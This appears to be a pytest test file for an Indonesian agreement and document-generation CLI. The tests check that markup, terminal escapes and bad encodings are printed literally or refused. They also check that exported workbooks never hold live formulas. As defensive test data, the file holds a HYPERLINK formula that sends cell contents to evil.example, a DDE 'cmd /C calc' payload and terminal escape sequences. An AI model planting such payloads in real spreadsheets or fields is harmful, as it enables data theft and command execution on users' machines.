"""User text printed literally (rich markup, brackets, terminal escapes), as one line of
readable length, on any console encoding; workbooks never hold a live formula."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from openpyxl import load_workbook

from tests.conftest import REPO
from tests.hostile.conftest import MOU, RENJA, assert_clean_failure, state_of

# The counterpart's org in the example work plan (the MoU names the same org).
SECOND_ORG = "org: Pemerintah Provinsi Nusa Tenggara Timur\n    kind: pemda\n    unit:"
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Buka")'


@pytest.fixture
def marked(example, edit):
    """The example with markup in an org, a title and a unit."""
    renja = example / "agreements" / f"{RENJA}.yaml"
    edit(
        renja,
        SECOND_ORG,
        SECOND_ORG.replace(
            "org: Pemerintah Provinsi Nusa Tenggara Timur",
            "org: Biro [/] Organisasi [rawat inap] Sekretariat",
        ),
    )
    edit(renja, "unit: Biro Organisasi Sekretariat", "unit: Biro [/] Organisasi [rawat inap] Sekretariat")
    edit(renja, "title: Rapat koordinasi triwulan I,", 'title: "[/bold] rapat koordinasi",')
    return example


def test_markup_in_agreements_prints_literally(marked, cli):
    org = "Biro [/] Organisasi [rawat inap] Sekretariat"
    title = "[/bold] rapat koordinasi"
    for args, shown in (
        (("agreement", "list"), [org]),
        (("agreement", "show", RENJA), [org, title]),
        (("deliverable", "list"), [title]),
        (("monitor",), [org, title]),
    ):
        run = cli(marked, *args, "--as-of", "2022-05-01")
        assert run.exit_code == 0, (args, run.stderr)
        for text in shown:
            assert text in run.stdout, (args, text)


def test_markup_in_notes_numbers_letters(marked, cli):
    run = cli(
        marked,
        "deliverable",
        "set",
        RENJA,
        "W1-D1",
        "--status",
        "in_progress",
        "--note",
        "[/bold] rapat",
        "--on",
        "2022-03-01",
    )
    assert run.exit_code == 0, run.stderr
    run = cli(marked, "deliverable", "history", RENJA, "W1-D1")
    assert run.exit_code == 0 and "[/bold] rapat" in run.stdout
    run = cli(marked, "number", "next", "letter", "--for", "[/] x", "--on", "2022-03-01")
    assert run.exit_code == 0, run.stderr
    run = cli(marked, "number", "list")
    assert run.exit_code == 0 and "[/] x" in run.stdout
    run = cli(marked, "letter", "followup", "--all", "--as-of", "2022-05-01")
    assert run.exit_code == 0, run.stderr
    assert "Biro [/] Organisasi [rawat inap] Sekretariat" in run.stdout


def test_markup_in_certificates(example, cli):
    names = ["[/b] Dinas A", "UPTD Puskesmas [rawat inap] Oesapa", "Biro [/] Organisasi"]
    (example / "results" / "k-2022.csv").write_text(
        "instansi,nilai\n" + "".join(f"{n},90\n" for n in names), encoding="utf-8"
    )
    run = cli(example, "certificate", "issue", "results/k-2022.csv", "--signed-on", "2023-01-05")
    assert run.exit_code == 0, run.stderr
    for name in names:
        assert name in run.stdout
    run = cli(example, "certificate", "issue", "results/k-2022.csv", "--signed-on", "2023-01-05", "--json")
    for name, entry in zip(names, run.json()["issued"], strict=True):
        run = cli(example, "certificate", "verify", entry["number"])
        assert run.exit_code == 0, run.stderr
        assert f"recipient  {name}" in run.stdout


def test_terminal_escapes_never_reach_the_terminal(example, cli, edit):
    mou = example / "agreements" / f"{MOU}.yaml"
    edit(mou, "org: Pemerintah Provinsi Nusa Tenggara Timur", 'org: "Pemda \\e[2J\\e]0;x\\a NTT"')
    run = cli(example, "check")
    lines = assert_clean_failure(run)
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr
    assert any("parties #2, org" in line and "U+001B" in line for line in lines)
    # Escapes on the command line are refused too, shown, never raw.
    run = cli(example, "number", "next", "letter", "--for", "\x1b[31mRED")
    assert_clean_failure(run)
    assert "\x1b" not in run.stderr


def test_error_lines_are_one_line_of_readable_length(example, cli, edit):
    mou = example / "agreements" / f"{MOU}.yaml"
    edit(mou, "kind: mou", "kind: " + "x" * 5000)
    run = cli(example, "agreement", "show", MOU)
    lines = assert_clean_failure(run)
    assert all(len(line) <= 400 for line in lines)
    run = cli(example, "deliverable", "set", MOU, "a\nb", "--status", "done")
    assert_clean_failure(run)


def test_formula_injection_in_the_workbook(example, cli, edit, tmp_path):
    renja = example / "agreements" / f"{RENJA}.yaml"
    edit(renja, "title: Rapat koordinasi triwulan I,", f"title: '{FORMULA}',")
    edit(
        renja,
        SECOND_ORG,
        SECOND_ORG.replace("org: Pemerintah Provinsi Nusa Tenggara Timur", 'org: "=1+1 Biro Organisasi"'),
    )
    edit(example / "docgen.toml", 'name = "Ombudsman', "name = \"=cmd|' /C calc'!A0 Ombudsman")
    target = tmp_path / "m.xlsx"
    run = cli(example, "monitor", "--as-of", "2022-05-01", "--xlsx", str(target))
    assert run.exit_code == 0, run.stderr
    workbook = load_workbook(target)
    texts = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
    ]
    assert any(cell.value == FORMULA for cell in texts)
    assert any(cell.value.startswith("=1+1") for cell in texts)
    assert any(cell.value.startswith("=cmd|") for cell in texts)
    assert all(cell.data_type == "s" for cell in texts), [c.coordinate for c in texts if c.data_type != "s"]
    # Numbers and dates stay numbers and dates.
    assert any(isinstance(c.value, int) for s in workbook for r in s.iter_rows() for c in r)


def _docgen(ws, *args, encoding="cp1252"):
    env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "docgen", "-w", str(ws), *args], capture_output=True, env=env, timeout=60
    )


def test_cp1252_console(example, edit):
    renja = example / "agreements" / f"{RENJA}.yaml"
    edit(
        renja,
        SECOND_ORG,
        SECOND_ORG.replace("org: Pemerintah Provinsi Nusa Tenggara Timur", "org: Biro Ωrganisasi ₐ"),
    )
    result = _docgen(example, "agreement", "list", "--json", "--as-of", "2022-05-01")
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout.decode("cp1252"))
    assert any("Biro Ωrganisasi ₐ" in " ".join(r["parties"]) for r in rows)
    result = _docgen(example, "agreement", "show", RENJA, "--as-of", "2022-05-01")
    assert result.returncode == 0, result.stderr
    assert b"\\u03a9rganisasi" in result.stdout
    assert b"internal error" not in result.stderr


def test_nothing_written_before_a_refused_note(example, cli):
    before = state_of(example)
    run = cli(example, "deliverable", "set", RENJA, "W1-D1", "--status", "done", "--note", "x\udce9y")
    lines = assert_clean_failure(run)
    assert lines == ["--note: not valid UTF-8 text (byte 0xE9); set your terminal to UTF-8 and type it again"]
    for args in (
        ("number", "next", "letter", "--for", "\udcff"),
        ("agreement", "terminate", RENJA, "--on", "2022-03-01", "--reason", "a\udc80"),
        ("certificate", "issue", "results/kepatuhan-2022-kota-kupang.csv", "--event", "\udcff"),
        ("number", "next", "letter", "--for", "bell\x07"),
    ):
        assert_clean_failure(cli(example, *args))
    assert state_of(example) == before
